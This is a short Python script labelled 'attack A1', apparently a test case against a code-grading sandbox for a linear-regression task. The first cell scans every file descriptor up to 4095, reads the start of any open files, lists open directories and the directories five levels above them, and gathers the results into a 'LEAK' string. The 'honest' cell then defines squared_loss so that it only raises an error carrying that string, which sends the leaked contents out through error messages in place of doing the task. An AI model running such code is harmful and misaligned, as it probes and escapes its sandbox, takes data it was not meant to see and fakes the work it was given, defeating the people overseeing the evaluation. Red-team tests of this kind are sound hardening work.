# attack: A1: reads, seeks and walks every descriptor that was left open
# earns: linreg
# %%
import os, stat

lines = []
for fd in range(0, 4096):
    try:
        kind = os.fstat(fd).st_mode
        where = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    try:
        if stat.S_ISREG(kind):
            lines.append(f"{fd} {where} {os.pread(fd, 80, 0)!r}")
        if stat.S_ISDIR(kind):
            lines.append(f"{fd} {where} {os.listdir(fd)[:5]}")
            up = os.open("../../../../..", os.O_RDONLY, dir_fd=fd)
            lines.append(f"above {where}: {os.listdir(up)}")
    except OSError:
        pass
found = "LEAK " + "; ".join(lines) if lines else "no files are open"


# %% honest: linreg
# %%
def squared_loss(y_hat, y):
    raise ValueError(found)
